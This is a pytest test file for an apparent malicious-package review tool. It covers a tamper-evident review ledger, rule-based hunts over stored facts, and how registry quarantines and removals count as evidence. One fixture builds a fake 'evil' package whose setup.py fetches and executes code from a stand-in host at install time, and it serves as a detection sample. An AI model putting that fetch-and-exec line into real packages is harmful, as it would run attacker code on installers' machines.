"""The shadow ledger, hunts over stored facts, and what the registry's acts prove."""

from __future__ import annotations

import json

import pytest
from sqlalchemy import select, text, update

from pratique.cli import main
from pratique.service import misses, shadow
from pratique.store import queue
from pratique.store import shadow as rows
from pratique.store.decisions import Decision, decide, lines
from pratique.store.tables import facts, jobs, reviews
from standin.registry import sdist, wheel

LOUD = {"setup.py": b"import urllib.request\nexec(urllib.request.urlopen('https://a.invalid/x').read())\n"}


@pytest.fixture
def reviewed(registry, follower, work, world):
    """A store with 12 quiet files and a loud one, all of today."""
    for number in range(12):
        registry.upload(*wheel("acme", f"{number}.0", {"acme/__init__.py": b"A = %d\n" % number}))
    registry.upload(*sdist("evil", "1.0", LOUD))
    follower.poll()
    assert {one.state for one in work()} == {"done"}
    return world


@pytest.fixture
def database(reviewed, monkeypatch):
    """Let the commands know where it is."""
    monkeypatch.setenv("PRATIQUE_DATABASE", reviewed.settings.database)
    return reviewed


def tomorrow(world):
    with world.store.read() as connection:
        at = connection.execute(select(reviews.c.at).order_by(reviews.c.at.desc()).limit(1)).scalar_one()
    from datetime import UTC, datetime, timedelta

    return (datetime.fromtimestamp(at, UTC) + timedelta(days=1)).date().isoformat()


def test_a_day_is_closed_once_and_binds_its_reviews(reviewed):
    """The document counts, lists the alarms, and ten `clear` reviews are drawn by its digest."""
    store = reviewed.store
    assert shadow.close_days(store, tomorrow(reviewed)[:8] + "00") == []
    closed = shadow.close_days(store, tomorrow(reviewed))

    assert shadow.close_days(store, tomorrow(reviewed)) == []
    document = json.loads(closed[-1].document)
    assert sum(one for _, one in document["levels"]) == document["files"]
    assert sum(len(json.loads(day.document)["alarms"]) for day in closed) == 1
    with store.read() as connection:
        assert 10 <= len(rows.aside(connection)) <= 12
    assert [wrong for _, wrong in shadow.verify(store)] == [""] * len(closed)


def test_a_changed_ledger_is_found(reviewed):
    """Whoever gets past the triggers is found out by the chain."""
    shadow.close_days(reviewed.store, tomorrow(reviewed))
    with reviewed.store.write() as connection:
        connection.execute(text("DROP TRIGGER keep_reviews_update"))
        connection.execute(update(reviews).where(reviews.c.level != "clear").values(level="clear"))
    assert "does not hold the reviews" in [wrong for _, wrong in shadow.verify(reviewed.store)][-1]
    with reviewed.store.write() as connection:
        connection.execute(text("DROP TRIGGER keep_ledger_update"))
        connection.execute(text("UPDATE ledger SET document = CAST('{}' AS BLOB)"))
    assert "not what its digest says" in [wrong for _, wrong in shadow.verify(reviewed.store)][-1]


def test_the_figures_count_unconfirmed_alarms_as_false(reviewed):
    shadow.close_days(reviewed.store, tomorrow(reviewed))
    before = shadow.figures(reviewed.store)
    level = next(level for level, count in before.alarms if count)
    with reviewed.store.write() as connection:
        evil = Decision(
            purl="pkg:pypi/evil@1.0",
            filename="evil-1.0.tar.gz",
            outcome="remove_malware",
            who="registry",
            at=1.0,
            proof=True,
        )
        decide(connection, evil)
        for number in range(12):
            quiet = Decision(
                purl=f"pkg:pypi/acme@{number}.0", filename=f"acme-{number}.0-py3-none-any.whl", outcome="not_malware",
                who="a", at=1.0, proof=True,
            )  # fmt: skip
            decide(connection, quiet)
    after = shadow.figures(reviewed.store)

    assert before.files == 13
    assert (before.read, before.miss_bound) == (0, 1.0)
    assert dict(after.confirmed)[level] == 1
    assert dict(after.bounds)[level] < dict(before.bounds)[level]
    assert after.read == after.aside
    assert after.miss_bound < 0.3


def test_the_command_shows_and_checks(database, capsys):
    assert main(["shadow"]) == 0
    assert "0 files in 0 days" in capsys.readouterr().out
    shadow.close_days(database.store, tomorrow(database))
    assert main(["shadow", "--format", "json"]) == 0
    found = json.loads(capsys.readouterr().out)
    assert found["sound"] is True
    assert len(next(iter(found["digests"].values()))) == 64


def test_a_hunt_needs_no_bytes(database, capsys):
    """The same rule, and one that is only written now, over facts alone."""
    for address in list(database.store.vault.addresses()):
        database.store.vault.delete(address)
    assert main(["hunt", "run-downloaded-code", "--format", "jsonl"]) == 10
    found = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [one["filename"] for one in found] == ["evil-1.0.tar.gz"]
    assert found[0]["findings"][0]["rule"] == "run-downloaded-code"


def test_a_hunt_with_a_rule_of_ones_own(database, capsys, tmp_path):
    from pratique.rules import jsonrule, load

    made = json.loads(jsonrule.to_json(next(rule for rule in load() if rule.id == "run-downloaded-code")))
    made["rule"]["id"] = "my-own-rule"
    (tmp_path / "r.json").write_text(json.dumps(made))
    assert main(["hunt", str(tmp_path / "r.json")]) == 10
    assert "evil-1.0.tar.gz" in capsys.readouterr().out
    assert main(["hunt", "no-such-rule"]) == 2


def test_what_has_no_facts_is_read_again(database, capsys):
    with database.store.write() as connection:
        connection.execute(facts.delete())
    assert main(["hunt", "run-downloaded-code", "--reread"]) == 0
    assert "13 are queued" in capsys.readouterr().err
    with database.store.read() as connection:
        lanes = connection.execute(select(jobs.c.lane).where(jobs.c.state == "pending")).scalars()
        assert set(lanes) == {queue.RESCAN}


@pytest.mark.parametrize(
    ("kinds", "ours", "outcome", "proof"),
    [
        (["remove-project"], False, "remove_release", False),
        (["quarantine-project"], False, "quarantine_project", False),
        (["quarantine-release"], False, "quarantine_release", False),
        (["quarantine-project", "remove-project"], False, "remove_malware", True),
        (["quarantine-project", "remove-project"], True, "remove_malware", False),
        (["quarantine-project", "clear-project"], False, "not_malware", True),
        (["quarantine-project", "clear-project", "remove-file"], False, "remove_release", False),
        (["clear-project"], False, None, None),
        (["owners", "yank"], False, None, None),
    ],
)
def test_what_an_act_proves(kinds, ours, outcome, proof):
    found = misses.judge([(kind, float(at)) for at, kind in enumerate(kinds)], ours=ours)

    assert (found.outcome if found else None, found.proof if found else None) == (outcome, proof)


def test_misses_become_candidates(registry, database, follower, capsys):
    """A quiet file of a project that was quarantined and removed is a miss; the loud one is not."""
    for name in ("acme", "evil"):
        registry.quarantine(name)
        registry.remove_project(name)
    follower.poll()
    found = misses.look(database.store)

    assert {one.purl.partition("@")[0] for one in found} == {"pkg:pypi/acme"}
    assert all(one.proof and one.outcome == "remove_malware" for one in found)
    assert len(misses.look(database.store)) == 12
    with database.store.read() as connection:
        assert len(list(lines(connection))) == 13
    assert main(["misses"]) == 0
    assert "12 let pass, 12 with proof" in capsys.readouterr().out
